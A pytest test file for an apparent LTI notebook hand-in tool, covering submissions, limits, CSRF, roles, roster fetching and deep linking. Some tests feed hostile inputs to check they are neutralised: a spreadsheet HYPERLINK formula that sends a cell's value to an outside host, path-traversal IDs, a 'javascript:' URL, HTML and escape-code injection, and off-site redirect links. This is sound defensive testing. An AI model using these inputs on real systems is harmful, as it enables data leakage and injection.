"""What comes by a link is handed in, read and marked as what comes otherwise."""

import csv
import datetime
import json
import multiprocessing
import re
import sqlite3

import jwt
import nbformat
import pytest
import requests
from pylti1p3.exception import LtiException

from coursekit.desk import collect
from coursekit.desk.back import canvas, moodle
from coursekit.desk.submissions import MOST_BYTES, is_id, time_in
from coursekit.exercise.model import Exercise
from coursekit.exercise.starter import make_starter
from coursekit.lti import handing_in, protocol
from coursekit.lti.roster import LEARNER, Person, Roster
from tests import ROOT
from tests.lti.platform import CLAIM, Browser

NAME = "bias.ipynb"


@pytest.fixture(scope="module")
def notebook():
    """A starter as a learner hands it in, as bytes."""
    return nbformat.writes(make_starter(ROOT / "exercises" / "bias")).encode()


def submitted(folder, student="Ada-Lovelace_11"):
    return folder / "submitted" / student / "bias" / NAME


def rows(folder, name="collected-bias.csv"):
    with (folder / name).open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_what_is_handed_in_lies_where_the_desk_finds_it(visitor, folder, notebook):
    page = visitor.launch("11")
    before = datetime.datetime.now(datetime.UTC).replace(microsecond=0)
    done = visitor.hand_in(page, (NAME, notebook))
    assert done.status_code == 200
    assert "Handed in." in done.text
    path = submitted(folder)
    assert path.read_bytes() == notebook
    assert before <= time_in(path.parent) <= datetime.datetime.now(datetime.UTC)
    assert rows(folder) == [
        {
            "student": "Ada-Lovelace_11",
            "name": "Ada Lovelace",
            "number": "lti:11",
            "late": "",
            "file": NAME,
            "changed": "",
            "reason": "",
        }
    ]
    assert re.search(r"You handed in on <strong>\d+ \w+ 2", visitor.launch("11").text)


def test_handing_in_again_keeps_what_was_before(visitor, folder, notebook):
    page = visitor.launch("11")
    visitor.hand_in(page, (NAME, notebook))
    stamp = submitted(folder).parent / "timestamp.txt"
    stamp.write_text("2026-11-30 12:00:00 UTC\n", encoding="utf-8")
    same = visitor.hand_in(page, (NAME, notebook))
    assert "That is what you handed in before." in same.text
    assert "30 November 2026, 12:00 UTC" in same.text  # so it is not late by that
    again = visitor.hand_in(page, (NAME, notebook + b"\n"))
    assert "Handed in again." in again.text
    assert "Before that:" in again.text
    [earlier] = (folder / "earlier" / "Ada-Lovelace_11").glob("*.ipynb")
    assert earlier.read_bytes() == notebook
    assert "12:00:00" not in stamp.read_text(encoding="utf-8")
    assert len(rows(folder)) == 1


def altered(notebook, change):
    nb = nbformat.reads(notebook.decode(), as_version=4)
    change(nb)
    return nbformat.writes(nb).encode()


def remark(nb):
    for cell in nb.cells:
        cell.metadata.nbgrader["points"] = 99
        cell.metadata.nbgrader["grade"] = True


BAD = {
    "no notebook": (lambda nb: b"%PDF-1.7", "it is no notebook"),
    "empty": (lambda nb: b"", "it is no notebook"),
    "marks": (lambda nb: altered(nb, remark), "marks of a cell were changed"),
    "missing": (lambda nb: altered(nb, lambda one: one.cells.clear()), "missing"),
    "large": (lambda nb: b" " * (MOST_BYTES + 1), "more than 5 MB"),
}


@pytest.mark.parametrize(("make", "said"), BAD.values(), ids=BAD.keys())
def test_what_cannot_be_graded_is_refused_at_once(
    make, said, visitor, folder, notebook
):
    page = visitor.launch("11")
    visitor.hand_in(page, (NAME, notebook))
    kept = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    answer = visitor.hand_in(page, (NAME, make(notebook)))
    assert answer.status_code == 422
    assert said in answer.text
    assert "Nothing was handed in" in answer.text
    now = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    assert now == kept


def test_no_name_of_a_file_says_whose_it_is(visitor, folder, notebook):
    """Platforms' names of files tell whose feedback goes to whom."""
    name = "Grace_7711_assignsubmission_file_/bias.ipynb"
    visitor.hand_in(visitor.launch("11"), (name, notebook))
    [row] = collect.collected(folder, "bias")
    assert row["file"] == NAME
    assert moodle.feedback_name(row, "bias") is None
    assert canvas.feedback_name(row, "bias") is None


def test_outputs_without_end_are_not_read(visitor, notebook, monkeypatch):
    """To word what is wrong with 20,000 of them took nbformat 43 seconds."""
    read, reads = [], nbformat.reads

    def noting(text, *given, **named):
        read.append(text)
        return reads(text, *given, **named)

    nb = json.loads(notebook)
    cell = next(one for one in nb["cells"] if one["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "x": 1}] * 1_000
    page = visitor.launch("11")
    monkeypatch.setattr(nbformat, "reads", noting)
    answer = visitor.hand_in(page, (NAME, json.dumps(nb).encode()))
    assert answer.status_code == 200
    assert not any('"x": 1' in text for text in read)


def test_nobody_hands_in_twice_at_once(visitor, notebook, monkeypatch):
    page, statuses = visitor.launch("11"), []
    take = handing_in.take

    def meanwhile(*given):
        again = visitor.hand_in(page, (NAME, notebook))
        statuses.append((again.status_code, "still being looked at" in again.text))
        return take(*given)

    monkeypatch.setattr(handing_in, "take", meanwhile)
    assert visitor.hand_in(page, (NAME, notebook)).status_code == 200
    assert statuses == [(429, True)]
    monkeypatch.setattr(handing_in, "take", take)
    assert visitor.hand_in(page, (NAME, notebook)).status_code == 200


def test_a_learner_cannot_fill_the_disk(visitor, folder, notebook, monkeypatch):
    monkeypatch.setattr(handing_in, "MOST_EARLIER", 2)
    page = visitor.launch("11")
    for count in range(3):
        content = notebook + b"\n" * count
        assert visitor.hand_in(page, (NAME, content)).status_code == 200
    more = visitor.hand_in(page, (NAME, notebook + b"\n" * 9))
    assert more.status_code == 422
    assert "3 different notebooks" in more.text
    assert submitted(folder).read_bytes() == content
    monkeypatch.setattr(handing_in, "MOST_EARLIER", 50)
    monkeypatch.setattr(handing_in, "MOST_EARLIER_BYTES", len(notebook))
    assert visitor.hand_in(page, (NAME, notebook + b"\n" * 9)).status_code == 422


def test_no_name_becomes_a_formula(platform, visitor, folder, notebook):
    name = '=HYPERLINK("http://x/?"&A2,"Eve")'
    platform.alter = lambda claims: claims | {"name": name}
    visitor.hand_in(visitor.launch("11"), (NAME, notebook))
    Roster(folder).write_list("bias")
    for table in ("collected-bias.csv", "roster-bias.csv"):
        assert rows(folder, table)[0]["name"] == f"'{name}"
    assert collect.collected(folder, "bias")[0]["name"] == name


def hand_in_many(folder, first):
    """Hand in for 20 learners, in a process of its own."""
    content = nbformat.writes(make_starter(ROOT / "exercises" / "bias")).encode()
    now = datetime.datetime(2026, 11, 30, tzinfo=datetime.UTC)
    for number in range(first, first + 20):
        person = Person(f"s_{number}", "S", str(number), LEARNER)
        handing_in.take(folder, "bias", person, content, now)


def test_two_programs_lose_nobody_from_the_list(folder, monkeypatch):
    context = multiprocessing.get_context("fork")
    both = [
        context.Process(target=hand_in_many, args=(folder, first)) for first in (0, 20)
    ]
    for one in both:
        one.start()
    for one in both:
        one.join()
    assert [one.exitcode for one in both] == [0, 0]
    assert len(collect.collected(folder, "bias")) == 40
    assert not list(folder.glob(".*.csv.*"))


def test_no_file_and_a_far_too_large_one_are_told(visitor, folder):
    page = visitor.launch("11")
    assert "Choose the file" in visitor.post(page, "hand-in").text
    huge = visitor.hand_in(page, (NAME, b" " * (MOST_BYTES + 2**18)))
    assert huge.status_code == 413
    assert "more than 5 MB" in huge.text
    assert not submitted(folder).exists()


def test_a_form_of_somebody_elses_page_hands_in_nothing(visitor, folder, notebook):
    page = visitor.launch("11")
    for data in ({"csrf": ""}, {"csrf": "guessed"}, {"csrf": "é"}):
        answer = visitor.hand_in(page, (NAME, notebook), data=data)
        assert answer.status_code == 403
    assert not submitted(folder).exists()


def test_without_that_check_such_a_form_hands_in(
    visitor, folder, notebook, monkeypatch
):
    monkeypatch.setattr("coursekit.lti.app.hmac.compare_digest", lambda *_: True)
    page = visitor.launch("11")
    answer = visitor.hand_in(page, (NAME, notebook), data={"csrf": "guessed"})
    assert answer.status_code == 200


def test_a_learner_cannot_do_what_an_instructor_can(platform, visitor, notebook):
    page = visitor.launch("11")
    for action in ("grades", "roster"):
        assert visitor.post(page, action).status_code == 403
    assert platform.asked == []
    teacher = Browser(platform)
    answer = teacher.hand_in(teacher.launch("90"), (NAME, notebook))
    assert answer.status_code == 403


def test_two_of_one_name_stay_two(platform, folder, notebook):
    for number in ("11", "13"):
        visitor = Browser(platform)
        visitor.hand_in(visitor.launch(number), (NAME, notebook))
    assert submitted(folder).is_file()
    assert submitted(folder, "Ada-Lovelace_13").is_file()


def test_a_student_of_another_name_now_stays_one(platform, visitor, folder, notebook):
    visitor.hand_in(visitor.launch("11"), (NAME, notebook))
    platform.alter = lambda claims: claims | {"name": "Ada King"}
    visitor.hand_in(visitor.launch("11"), (NAME, notebook + b"\n"))
    assert [path.name for path in (folder / "submitted").iterdir()] == [
        "Ada-Lovelace_11"
    ]
    assert rows(folder)[0]["name"] == "Ada King"


@pytest.mark.parametrize(
    "number", ["../../../x", "a/b", ".", "x" * 255, "535fa085-f22b", "a b\n", "é"]
)
def test_a_number_of_any_kind_makes_a_folder_of_its_own(
    number, platform, visitor, folder, notebook
):
    platform.alter = lambda claims: claims | {"sub": number, "name": ""}
    answer = visitor.hand_in(visitor.launch("11"), (NAME, notebook))
    assert answer.status_code == 200
    [place] = (folder / "submitted").iterdir()
    assert is_id(place.name)
    assert rows(folder)[0]["number"] == f"lti:{number}"


def test_nobody_gets_the_folder_of_another(platform, visitor, folder, notebook):
    """A folder that came by an archive is not theirs, whatever they are called."""
    path = submitted(folder, "ada")
    path.parent.mkdir(parents=True)
    path.write_bytes(b"of another")
    platform.alter = lambda claims: claims | {"sub": "ada", "name": ""}
    visitor.hand_in(visitor.launch("11"), (NAME, notebook))
    assert path.read_bytes() == b"of another"
    assert len(list((folder / "submitted").iterdir())) == 2


def test_people_of_two_platforms_are_told_apart(folder):
    roster = Roster(folder)
    links = [
        roster.link("bias", (place, "tool", "1", "link"), {}) for place in ("a", "b")
    ]
    [one], [two] = (roster.add(link, [("5", "Ada", LEARNER)]) for link in links)
    assert one == "Ada_5"
    assert two != one
    assert is_id(two)
    assert [person.number for person in roster.people(links[1])] == ["5"]


def test_the_list_of_the_class_comes_from_the_platform(platform, visitor, folder):
    Browser(platform).launch("11")
    page = visitor.launch("90")
    assert "Grace Hopper" not in page.text
    answer = visitor.post(page, "roster")
    assert answer.status_code == 200
    assert "Grace Hopper" in answer.text
    assert answer.text.count("not handed in") == 3
    # The platform gives one person a page, at addresses with capitals in them.
    people = {row["student"]: row for row in rows(folder, "roster-bias.csv")}
    assert people.keys() == {
        *("Ada-Lovelace_11", "Grace-Hopper_12", "Ada-Lovelace_13"),
        "Maryam-Mirzakhani_90",
    }
    assert people["Grace-Hopper_12"] == {
        "student": "Grace-Hopper_12",
        "name": "Grace Hopper",
        "number": "12",
        "role": "learner",
    }
    kept = b"".join(path.read_bytes() for path in folder.iterdir() if path.is_file())
    assert b"example.edu" not in kept


@pytest.mark.parametrize("where", ["http://192.0.2.1/x", "https://[", "/x", "itself"])
def test_a_list_leads_nowhere_else_and_has_an_end(
    where, platform, visitor, monkeypatch
):
    """What is asked for there is asked with the right to the platform's services."""
    page, sent = visitor.launch("90"), []
    send = requests.Session.send
    list_members = platform.list_members
    to = f"{platform.address}/members" if where == "itself" else where

    def leading(query):
        return *list_members(query)[:3], {"Link": f'<{to}>; rel="next"'}

    def noting(self, asked, **named):
        sent.append(asked.url)
        return send(self, asked, **named)

    platform.list_members = leading
    monkeypatch.setattr(requests.Session, "send", noting)
    answer = visitor.post(page, "roster")
    assert answer.status_code == 502
    assert "Nothing was changed" in answer.text
    assert len([url for url in sent if "members" in url]) == 1
    assert not [url for url in sent if "127.0.0.1" not in url]


def test_no_redirect_takes_the_right_elsewhere(platform, visitor):
    page, reached = visitor.launch("90"), []
    answer = platform.answer

    def leading(method, path, headers, text):
        if path == "/elsewhere":
            reached.append(path)
        if path == "/members":
            more = {"Location": f"{platform.address}/elsewhere"}
            return 302, "text/plain", "", more
        return answer(method, path, headers, text)

    platform.answer = leading
    told = visitor.post(page, "roster")
    assert told.status_code == 502
    assert "its address is another" in told.text
    assert reached == []


@pytest.mark.parametrize(
    ("is_secure", "address", "is_asked"),
    [
        (True, "https://moodle.example.edu/x", True),
        (True, "http://127.0.0.1:9/x", False),
        (False, "http://127.0.0.1:9/x", True),
        (False, "http://moodle.example.edu/x", False),
    ],
)
def test_an_address_of_this_machine_is_for_trials(
    is_secure, address, is_asked, monkeypatch
):
    asked = []

    def noting(self, *given, **named):
        asked.append(named)
        return requests.Response()

    monkeypatch.setattr(requests.Session, "request", noting)
    if is_asked:
        protocol.Web(is_secure).get(address)
        assert asked[0]["allow_redirects"] is False
    else:
        with pytest.raises(LtiException):
            protocol.Web(is_secure).get(address)
        assert asked == []


@pytest.mark.parametrize("user", ["11", "90"])
def test_who_leaves_is_gone_from_this_browser(user, platform, visitor):
    page = visitor.launch(user)
    name = "Ada Lovelace" if user == "11" else "Maryam Mirzakhani"
    assert f"You are here as <strong>{name}</strong>" in page.text
    [cookie] = [one for one in visitor.web.cookies if one.name == "lti"]
    assert cookie.expires is None  # it ends with the browser
    kept = requests.cookies.RequestsCookieJar()
    kept.update(visitor.web.cookies)
    assert visitor.post(page, "leave", data={"csrf": "x"}).status_code == 403
    assert "You have left" in visitor.post(page, "leave").text
    assert visitor.web.get(page.url).status_code == 403
    visitor.web.cookies = kept  # nor does an old cookie lead back
    assert visitor.web.get(page.url).status_code == 403


def test_who_left_the_course_is_in_its_list_no_more(platform, visitor, folder):
    page = visitor.launch("90")
    visitor.post(page, "roster")
    platform.members = {
        number: person for number, person in platform.members.items() if number != "12"
    }
    assert "Grace Hopper" not in visitor.post(page, "roster").text
    assert len(rows(folder, "roster-bias.csv")) == 3


def test_a_list_that_does_not_come_changes_nothing(platform, visitor, folder):
    page = visitor.launch("90")
    visitor.post(page, "roster")
    before = (folder / "lti.db").read_bytes()
    platform.granted = set()
    answer = visitor.post(page, "roster")
    assert answer.status_code == 502
    assert "HTTP 400" in answer.text
    platform.granted = {"x"}
    platform.services = set()
    page = visitor.launch("90")
    assert visitor.post(page, "roster").status_code == 409
    with sqlite3.connect(folder / "lti.db") as base:
        assert base.execute("SELECT count(*) FROM members").fetchone() == (4,)
    assert before


def test_an_instructor_sees_the_own_course_alone(platform, visitor, folder, notebook):
    other = Browser(platform)
    platform.alter = lambda claims: claims | {f"{CLAIM}resource_link": {"id": "2"}}
    other.hand_in(other.launch("12"), (NAME, notebook))
    platform.alter = lambda claims: claims
    Browser(platform).launch("11")
    page = visitor.launch("90")
    assert "Ada Lovelace" in page.text
    assert "Grace Hopper" not in page.text
    assert submitted(folder, "Grace-Hopper_12").is_file()


def test_feedback_is_shown_to_whom_it_is_for(platform, visitor, folder, notebook):
    page = visitor.launch("11")
    visitor.hand_in(page, (NAME, notebook))
    address = f"{page.url}feedback"
    assert visitor.web.get(address).status_code == 404
    path = folder / "feedback" / "Ada-Lovelace_11" / "bias" / "bias.html"
    path.parent.mkdir(parents=True)
    path.write_text("<h1>For Ada</h1>", encoding="utf-8")
    assert "Read your feedback" in visitor.web.get(page.url).text
    answer = visitor.web.get(address)
    assert answer.text == "<h1>For Ada</h1>"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert Browser(platform).web.get(address).status_code == 403
    other = Browser(platform)
    assert other.web.get(f"{other.launch('12').url}feedback").status_code == 404


def test_feedback_on_an_earlier_hand_in_is_called_so(visitor, folder, notebook):
    page = visitor.launch("11")
    path = folder / "feedback" / "Ada-Lovelace_11" / "bias" / "bias.html"
    path.parent.mkdir(parents=True)
    path.write_text("<h1>For Ada</h1>", encoding="utf-8")
    stamp = submitted(folder).parent / handing_in.STAMP
    visitor.hand_in(page, (NAME, notebook))
    for year, earlier in ((2020, False), (2099, True)):
        stamp.write_text(f"{year}-11-30 12:00:00 UTC\n", encoding="utf-8")
        shown = visitor.web.get(page.url).text
        assert ("on what you handed in before" in shown) is earlier


def chosen(text):
    """Return the signed answers of a page of choices, by the exercise's name."""
    forms = re.findall(r'name="JWT" value="([^"]+)">\s*<button>(\w+)', text)
    return {slug: token for token, slug in forms}


def test_an_instructor_chooses_the_exercise_of_a_link(platform, visitor, folder):
    platform.message_type = "LtiDeepLinkingRequest"
    page = visitor.launch("90")
    assert page.status_code == 200
    assert f'action="{platform.address}/chosen"' in page.text
    assert f"form-action {platform.address};" in (
        page.headers["Content-Security-Policy"] + ";"
    )
    answers = chosen(page.text)
    assert answers.keys() == {
        path.parents[1].name for path in ROOT.glob("exercises/*/answers/__init__.py")
    }
    keys = jwt.PyJWKSet.from_dict(requests.get(f"{platform.tool}/jwks").json())
    said = jwt.decode(
        answers["bias"], keys.keys[0].key, ["RS256"], audience=platform.address
    )
    [item] = said["https://purl.imsglobal.org/spec/lti-dl/claim/content_items"]
    assert item["custom"] == {"assignment": "bias"}
    assert item["url"] == f"{platform.tool}/launch"
    tasks = Exercise(ROOT / "exercises" / "bias").tasks.values()
    assert item["lineItem"]["scoreMaximum"] == sum(task.points for task in tasks)
    assert said["https://purl.imsglobal.org/spec/lti-dl/claim/data"] == "remember me"
    assert said[f"{CLAIM}deployment_id"] == "7"
    # What the platform then makes of it leads to that exercise.
    platform.message_type = "LtiResourceLinkRequest"
    platform.custom = item["custom"]
    assert "bias.ipynb" in visitor.launch("11").text


def test_a_learner_chooses_no_exercise(platform, visitor):
    platform.message_type = "LtiDeepLinkingRequest"
    page = visitor.launch("11")
    assert page.status_code == 403
    assert "JWT" not in page.text


def test_a_choice_goes_to_no_address_that_others_can_read(platform, visitor):
    platform.message_type = "LtiDeepLinkingRequest"
    name = "https://purl.imsglobal.org/spec/lti-dl/claim/deep_linking_settings"

    def elsewhere(claims):
        target = {"deep_link_return_url": "javascript:alert(1)"}
        return claims | {name: claims[name] | target}

    platform.alter = elsewhere
    page = visitor.launch("90")
    assert page.status_code == 400
    assert "javascript" not in page.text


def test_what_a_learner_is_called_is_shown_as_text(platform, visitor, notebook):
    platform.alter = lambda claims: claims | {"name": "<b>Ada</b>\x1b[2J"}
    Browser(platform).launch("11")
    platform.alter = lambda claims: claims
    page = visitor.launch("90")
    assert "&lt;b&gt;Ada&lt;/b&gt;" in page.text
    assert "\x1b" not in page.text
